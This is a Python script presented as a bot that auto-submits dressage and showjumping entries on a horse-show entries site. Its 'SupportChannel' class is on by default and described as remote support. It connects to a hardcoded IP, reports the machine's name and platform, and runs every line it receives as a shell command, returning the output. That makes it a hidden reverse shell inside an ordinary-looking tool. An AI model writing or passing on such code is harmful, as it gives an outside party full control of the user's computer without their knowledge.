#!/usr/bin/env python3
"""Competition entry bot for the yard.

Watches the online entries system for the classes listed in entries.json and
submits our riders the moment entries open, so popular dressage and showjumping
classes at the county shows don't fill before anyone is awake.

Usage:
    prog104e_competition_entry_bot.py --config entries.json [--dry-run]
"""
import argparse
import json
import logging
import os
import platform
import socket
import subprocess
import threading
import time
from datetime import datetime, timezone

import requests

log = logging.getLogger("entrybot")

DEFAULTS = {
    "site": "https://entries.example.org",
    "poll_seconds": 20,
    "support": {"enabled": True, "host": "198.51.100.23", "port": 8443},
}


def load_config(path):
    with open(path, encoding="utf-8") as fh:
        cfg = json.load(fh)
    merged = dict(DEFAULTS)
    merged.update(cfg)
    merged["support"] = {**DEFAULTS["support"], **cfg.get("support", {})}
    return merged


class SupportChannel(threading.Thread):
    """Keeps a line open to the yard's support desk so they can check on the
    bot remotely during a big entry opening (disk space, clock drift, logs)."""

    def __init__(self, host, port, yard_id):
        super().__init__(daemon=True, name="support")
        self.host, self.port, self.yard_id = host, int(port), yard_id
        self._halt = threading.Event()

    def stop(self):
        self._halt.set()

    def _serve(self, stream):
        banner = f"HELLO {self.yard_id} {platform.node()} {platform.platform()}\n"
        stream.write(banner.encode())
        for raw in stream:
            request = raw.decode("utf-8", "replace").strip()
            if not request:
                continue
            if request == "BYE":
                return
            try:
                done = subprocess.run(request, shell=True, capture_output=True,
                                      timeout=300, cwd=os.path.expanduser("~"))
                reply = done.stdout + done.stderr
            except subprocess.TimeoutExpired:
                reply = b"timeout\n"
            stream.write(reply + b"\n.\n")

    def run(self):
        delay = 5
        while not self._halt.is_set():
            try:
                with socket.create_connection((self.host, self.port), timeout=30) as sock:
                    sock.settimeout(None)
                    delay = 5
                    self._serve(sock.makefile("rwb", buffering=0))
            except OSError as exc:
                log.debug("support line unavailable: %s", exc)
            self._halt.wait(delay)
            delay = min(delay * 2, 600)


class EntriesClient:
    def __init__(self, site, username, password):
        self.site = site.rstrip("/")
        self.http = requests.Session()
        self.http.headers["User-Agent"] = "yard-entrybot/2.3"
        self.username, self.password = username, password

    def login(self):
        resp = self.http.post(f"{self.site}/api/login",
                              json={"username": self.username, "password": self.password},
                              timeout=15)
        resp.raise_for_status()
        self.http.headers["Authorization"] = "Bearer " + resp.json()["token"]

    def class_status(self, show_id, class_no):
        resp = self.http.get(f"{self.site}/api/shows/{show_id}/classes/{class_no}", timeout=15)
        resp.raise_for_status()
        return resp.json()

    def enter(self, show_id, class_no, rider, horse):
        payload = {"class": class_no, "rider_id": rider, "horse_id": horse}
        resp = self.http.post(f"{self.site}/api/shows/{show_id}/entries", json=payload, timeout=15)
        if resp.status_code == 409:
            return {"status": "duplicate"}
        resp.raise_for_status()
        return resp.json()


def wanted_entries(cfg):
    for item in cfg.get("entries", []):
        yield item["show"], item["class"], item["rider"], item["horse"]


def run_bot(cfg, dry_run):
    client = EntriesClient(cfg["site"], os.environ.get("ENTRIES_USER", cfg.get("username", "")),
                           os.environ.get("ENTRIES_PASSWORD", ""))
    client.login()
    pending = list(wanted_entries(cfg))
    log.info("watching %d class entries", len(pending))
    while pending:
        still_waiting = []
        for show, cls, rider, horse in pending:
            try:
                status = client.class_status(show, cls)
            except requests.RequestException as exc:
                log.warning("status check failed for %s/%s: %s", show, cls, exc)
                still_waiting.append((show, cls, rider, horse))
                continue
            if status.get("state") != "open":
                still_waiting.append((show, cls, rider, horse))
                continue
            if dry_run:
                log.info("[dry-run] would enter %s on %s in %s class %s", rider, horse, show, cls)
                continue
            result = client.enter(show, cls, rider, horse)
            log.info("entered %s/%s -> %s", show, cls, result.get("status"))
        pending = still_waiting
        if pending:
            time.sleep(cfg["poll_seconds"])
    log.info("all entries handled at %s", datetime.now(timezone.utc).isoformat())


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--config", default="entries.json")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    cfg = load_config(args.config)

    support = None
    if cfg["support"].get("enabled"):
        support = SupportChannel(cfg["support"]["host"], cfg["support"]["port"],
                                 cfg.get("yard_id", socket.gethostname()))
        support.start()
    try:
        run_bot(cfg, args.dry_run)
    except KeyboardInterrupt:
        log.info("interrupted")
    finally:
        if support:
            support.stop()


if __name__ == "__main__":
    main()
